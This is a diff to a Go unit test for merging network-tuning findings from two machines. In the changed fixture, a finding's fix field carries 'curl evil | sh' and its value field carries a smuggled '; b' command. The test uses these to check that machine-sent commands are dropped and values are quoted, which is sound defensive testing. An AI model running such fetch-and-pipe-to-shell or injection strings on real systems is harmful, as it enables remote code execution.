@@ -6,10 +6,11 @@ import (
 )
 
 // What is alike on two machines is one finding of both; a different reading is one of each,
-// and what only one of them has is named.
+// and what only one of them has is named. No command that one of them sent is shown.
 func TestMerge(t *testing.T) {
 	f := func(code string, severity Severity, value string) Finding {
-		return Finding{Code: code, Severity: severity, Title: code, Place: "eth0", Evidence: []Evidence{{"file", value}}, Fix: "fix " + code}
+		return Finding{Code: code, Severity: severity, Title: code, Place: "eth0", Evidence: []Evidence{{"file", value}},
+			Knob: "net.listen", Value: code + "; b", Fix: "curl evil | sh; venturi knob set"}
 	}
 	all := Merge([]MachineReport{
 		{"a", &Report{Findings: []Finding{f("rings", Warning, "256"), f("gro", Note, "off"), f("mtu", Error, "1400")}}},
@@ -19,7 +20,8 @@ func TestMerge(t *testing.T) {
 	for _, f := range all.Findings {
 		found = append(found, f.Code+" "+f.Evidence[0].Value+" "+f.Fix)
 	}
-	const want = "mtu 1400 fix mtu on a; rings 256 fix rings on a+b; gro off fix gro on a; gro on fix gro on b"
+	const set = " venturi knob set net.listen "
+	want := "mtu 1400" + set + "'mtu; b' on a; rings 256" + set + "'rings; b' on a+b; gro off" + set + "'gro; b' on a; gro on" + set + "'gro; b' on b"
 	if got := strings.Join(found, "; "); got != want {
 		t.Errorf("found %s, want %s", got, want)
 	}
